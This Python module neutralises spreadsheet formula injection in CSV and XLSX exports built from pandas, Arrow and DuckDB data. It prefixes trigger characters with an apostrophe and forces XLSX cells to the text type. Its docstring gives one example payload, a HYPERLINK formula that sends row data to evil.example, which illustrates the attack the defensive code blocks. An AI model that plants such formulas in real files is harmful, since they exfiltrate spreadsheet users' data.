"""Exports are data, never formulas: the one rule for text a spreadsheet opens, and the writers that apply it.

The rule (OWASP's CSV-injection guidance): a text cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return gets a leading apostrophe, so Excel, LibreOffice and Google Sheets show it as text
instead of running it (`=HYPERLINK("http://evil.example/?"&A2)` would send the row away). Only text is
touched: a negative amount stays a number. It applies to CSV and XLSX, whether built from a DataFrame,
an Arrow table, a DuckDB relation or a query for `COPY` (which keeps streaming: the rule runs inside
DuckDB). Parquet is
read by programs, not spreadsheets, and keeps the bank's text exactly.

XLSX cells are also written with the string type (openpyxl would otherwise store any text that starts
with `=` as a formula and "#N/A" as an error), and the control characters XLSX cannot hold are removed,
so one odd bank string never makes an export fail.
"""

from __future__ import annotations

import io
import math
import re
from collections.abc import Callable, Iterable
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from typing import Any

import duckdb
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"
XLSX_MAX_CELL = 32_767  # characters an Excel cell holds
_SHEET_TITLE_FORBIDDEN = re.compile(r"[\\/?*\[\]:]")
_TRIGGER_PATTERN = "^[=+@\\t\\r-]"  # TRIGGERS as a regular expression (RE2, for Arrow)


def spreadsheet_text(value: str) -> str:
    """One text cell under the rule: `=1+1` -> `'=1+1`; anything else unchanged."""
    return PREFIX + value if value.startswith(TRIGGERS) else value


def spreadsheet_sql(expression: str) -> str:
    """The rule as a DuckDB expression over a VARCHAR `expression` (NULL stays NULL)."""
    triggers = ", ".join(f"chr({ord(t)})" for t in TRIGGERS)
    return f"CASE WHEN left({expression}, 1) IN ({triggers}) THEN '{PREFIX * 2}' || {expression} ELSE {expression} END"


def spreadsheet_query(con: duckdb.DuckDBPyConnection, query: str, params: object = None) -> str:
    """A SELECT over `query` (run with `params`) with the rule applied to its text columns and column names,
    for `COPY (...) TO 'file.csv'`: the rule runs inside DuckDB, so the copy still streams."""
    described = con.execute(f"SELECT * FROM ({query}) LIMIT 0", params)
    columns = [(d[0], str(d[1])) for d in described.description or ()]
    described.fetchall()  # finish the result: DuckDB 2 refuses other work on a connection with one open
    return f"SELECT {_spreadsheet_columns(columns)} FROM ({query})"


def spreadsheet_relation(relation: duckdb.DuckDBPyRelation) -> duckdb.DuckDBPyRelation:
    """`relation` with the rule applied to its text columns and column names (e.g. before `.write_csv()`)."""
    return relation.project(_spreadsheet_columns(zip(relation.columns, map(str, relation.types), strict=True)))


def spreadsheet_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with the rule applied to every text cell and column name; numbers untouched."""
    out = frame.copy()
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        elif not (pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype)):
            continue
        out.isetitem(position, column.map(_cell, na_action="ignore").array)
    out.columns = [spreadsheet_text(c) if isinstance(c, str) else c for c in out.columns]
    return out


def spreadsheet_arrow(table: pa.Table) -> pa.Table:
    """`table` with the rule applied to its string columns (and column names)."""
    columns = []
    for column in table.columns:
        if pa.types.is_dictionary(column.type):
            column = column.cast(column.type.value_type)
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            starts = pc.match_substring_regex(column, _TRIGGER_PATTERN)
            column = pc.if_else(starts, pc.binary_join_element_wise(PREFIX, column, ""), column)
        columns.append(column)
    return pa.Table.from_arrays(columns, names=[spreadsheet_text(n) for n in table.column_names])


def xlsx_bytes(frame: pd.DataFrame, *, sheet: str = "data") -> bytes:
    """`frame` as an XLSX workbook of one sheet: text under the rule and typed as text, numbers and dates
    as themselves, a bold header row."""
    book = Workbook(write_only=True)
    ws = book.create_sheet(title=_SHEET_TITLE_FORBIDDEN.sub("_", sheet)[:31] or "data")
    header = []
    for name in frame.columns:
        cell = _xlsx_text(ws, str(name))
        cell.font = Font(bold=True)
        header.append(cell)
    ws.append(header)
    convert = [_xlsx_converter(frame[c].dtype) for c in frame.columns]
    for row in frame.itertuples(index=False, name=None):
        ws.append([to_cell(ws, value) for to_cell, value in zip(convert, row, strict=True)])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# -- helpers ---------------------------------------------------------------------------------


def _cell(value: object) -> object:
    return spreadsheet_text(value) if isinstance(value, str) else value


def _spreadsheet_columns(columns: Iterable[tuple[str, str]]) -> str:
    """A projection list: text columns (VARCHAR, ENUM, JSON) under the rule, the others as they are."""
    parts = []
    for name, kind in columns:
        source = _identifier(name)
        value = spreadsheet_sql(f"{source}::VARCHAR") if _is_text(kind) else source
        parts.append(f"{value} AS {_identifier(spreadsheet_text(name))}")
    return ", ".join(parts)


def _is_text(duckdb_type: str) -> bool:
    return duckdb_type == "VARCHAR" or duckdb_type.startswith("ENUM(") or duckdb_type == "JSON"


def _identifier(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def _xlsx_text(ws: Any, text: str) -> WriteOnlyCell:
    cell = WriteOnlyCell(ws, value=spreadsheet_text(ILLEGAL_CHARACTERS_RE.sub("", text))[:XLSX_MAX_CELL])
    cell.data_type = "s"  # never "f" (formula) or "e" (error), whatever the text looks like
    return cell


def _xlsx_converter(dtype: Any) -> Callable[[Any, object], object]:
    """How one column's values become cells: numbers pass straight through (the common, fast case)."""
    if pd.api.types.is_numeric_dtype(dtype) and not pd.api.types.is_bool_dtype(dtype):
        return lambda ws, value: None if _missing(value) else value
    return _xlsx_value


def _xlsx_value(ws: Any, value: object) -> object:
    if _missing(value):
        return None
    if isinstance(value, str):
        return _xlsx_text(ws, value)
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    elif isinstance(value, pd.Timedelta):
        value = value.to_pytimedelta()
    elif isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, datetime) and value.tzinfo is not None:
        value = value.astimezone(UTC).replace(tzinfo=None)  # Excel has no time zones: UTC
    if isinstance(value, bool | int | float | Decimal | date | time | timedelta):
        return value
    return _xlsx_text(ws, str(value))  # lists, structs, bytes, UUIDs: their text


def _missing(value: object) -> bool:
    return value is None or value is pd.NaT or value is pd.NA or (isinstance(value, float) and math.isnan(value))
